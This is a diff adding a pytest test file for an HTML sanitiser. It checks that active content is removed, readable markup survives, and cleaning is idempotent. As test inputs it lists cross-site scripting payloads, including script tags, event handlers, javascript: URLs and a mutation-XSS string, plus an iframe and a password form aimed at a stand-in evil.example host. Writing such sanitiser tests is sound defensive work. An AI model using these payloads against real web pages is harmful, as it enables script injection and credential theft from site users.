@@ -1,0 +1,69 @@
+"""HTML of questions: what acts is gone after cleaning, what reads stays, and cleaning again changes nothing."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from adapters.questions import html
+
+DIGEST = "a" * 64
+
+
+@pytest.mark.parametrize(
+    "hostile",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        '<img src="javascript:alert(1)">',
+        '<img src="https://tracker.example/pixel.gif">',
+        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+        "<svg onload=alert(1)><script>1</script></svg>",
+        "<style>body{display:none}</style>",
+        '<p style="position:fixed;inset:0">over everything</p>',
+        '<a href="javascript:alert(1)">here</a>',
+        "<iframe src=https://evil.example></iframe>",
+        "<form action=https://evil.example><input name=password></form>",
+        "<math><mtext></p><mglyph><style><img src=x onerror=alert(1)></style></math>",
+        "<p class=top id=next>like the page's own</p>",
+        "<!-- --><script>1</script>",
+        '"><script>1</script>',
+    ],
+)
+def test_nothing_that_acts_is_left(hostile: str) -> None:
+    cleaned = html.clean(f"<p>Before</p>{hostile}<p>After</p>")
+    for part in (
+        "<script",
+        "onerror",
+        "onload",
+        "javascript:",
+        "data:",
+        "https:",
+        "<style",
+        "style=",
+        "<iframe",
+        "<form",
+        "<input",
+        "<svg",
+        "class=",
+        "id=",
+    ):
+        assert part not in cleaned, cleaned
+    assert "Before" in cleaned and "After" in cleaned
+
+
+def test_what_reads_stays() -> None:
+    kept = f'<p>The <strong>domain</strong><br>decides.</p><ul><li>one</li></ul><img src="file:{DIGEST}" alt="A mail">'
+    assert html.clean(kept) == kept
+    assert html.pictures_in(kept) == [DIGEST]
+    assert f'src="/t/1/pictures/{DIGEST}"' in html.with_addresses(kept, "/t/1/pictures/")
+    assert html.plain(kept) == "The domain decides. one A mail"
+    assert html.plain("3 &lt; 4 &amp; 5") == "3 < 4 & 5"
+
+
+@given(st.text(st.characters(codec="utf-8"), max_size=200))
+def test_cleaning_again_changes_nothing_and_plain_text_survives(text: str) -> None:
+    once = html.clean(text)
+    assert html.clean(once) == once
+    assert html.plain(html.escape(text)).split() == text.replace("\0", "\ufffd").split() or "\r" in text or "\0" in text
